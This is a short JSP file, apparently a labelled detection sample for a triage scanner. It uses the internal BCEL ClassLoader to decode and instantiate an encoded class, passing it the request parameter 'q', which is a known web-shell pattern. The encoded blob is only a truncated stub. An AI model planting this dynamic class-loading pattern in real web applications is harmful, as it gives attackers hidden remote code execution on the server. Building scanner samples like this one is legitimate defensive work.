<%-- triage-expect: triage_jsp_dynamic_exec --%>
<%@ page import="com.sun.org.apache.bcel.internal.util.ClassLoader" %>
<%
    String blob = "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dQ$cbN$c2$40$U$3d";
    Object o = new ClassLoader().loadClass(blob).getConstructor(String.class).newInstance(request.getParameter("q"));
    out.print(o);
%>
